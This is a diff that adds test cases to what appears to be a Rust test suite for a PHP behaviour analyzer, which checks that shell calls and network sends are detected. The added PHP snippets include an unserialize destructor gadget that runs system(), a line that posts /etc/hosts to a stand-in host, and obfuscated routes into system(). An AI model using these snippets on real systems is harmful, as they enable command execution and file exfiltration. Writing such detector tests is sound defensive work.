@@ -196,6 +196,21 @@ fn every_construct_of_the_language_is_followed() {
                 "(new ReflectionClass('A'))->newInstance('id'); class A { function __construct($c) { system($c); } }",
                 &["shell id"],
             ),
+            (
+                "class A { public $c; function __destruct() { system($this->c); } } unserialize('O:1:\"A\":1:{s:1:\"c\";s:2:\"id\";}');",
+                &["shell id"],
+            ),
+            (
+                "file_get_contents('http://h.example', false, stream_context_create(['http' => ['content' => file_get_contents('/etc/hosts')]]));",
+                &[
+                    "read /etc/hosts",
+                    "send http://h.example <- /etc/hosts",
+                    "fetch http://h.example",
+                ],
+            ),
+            ("$a = 'id'; $b = &$a; unset($b); system($a);", &["shell id"]),
+            ("$a = ['x' => 'ls']; unset($a['x']); system($a['x'] ?? 'id');", &["shell id"]),
+            ("class A { const D = 'i'; const F = self::D . 'd'; } system(A::F);", &["shell id"]),
             ("$o = new stdClass; $o->{'a' . 'b'} = 'id'; system($o->ab);", &["shell id"]),
         ],
     );
